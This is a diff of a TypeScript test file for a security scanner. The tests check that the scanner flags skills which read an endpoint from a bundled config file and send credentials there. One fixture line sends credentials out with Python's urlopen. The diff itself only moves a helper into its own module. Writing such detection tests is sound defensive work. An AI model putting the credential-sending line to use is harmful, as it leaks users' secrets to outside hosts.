@@ -1,7 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { scanSkill } from '../../../../src/scan/engine/scan.js';
-import { decisiveIndicator } from '../../../../src/score/verdict-features.js';
-import { makeSkill, skillMd } from '../prose/make-skill.js';
+import { skillMd } from '../prose/make-skill.js';
+import { scanOf } from './scan-of.js';
 
 // An endpoint a script reads at run time from a file the skill ships (endpoints.txt, config.json) is a host
 // written into the skill, only not into the code: the evasion suite's urls-in-config row. A list of many hosts
@@ -15,11 +14,6 @@ const SEND = [
   'urllib.request.urlopen(url, data=creds.encode())',
   '',
 ].join('\n');
-
-async function scanOf(files: Record<string, string>) {
-  const { findings, status } = await scanSkill(makeSkill(files));
-  return { status, decisive: decisiveIndicator(findings)?.def.id, findings };
-}
 
 describe('an endpoint read from a file the skill ships', () => {
   it('is the host in that file: credentials sent there are a stealer', async () => {
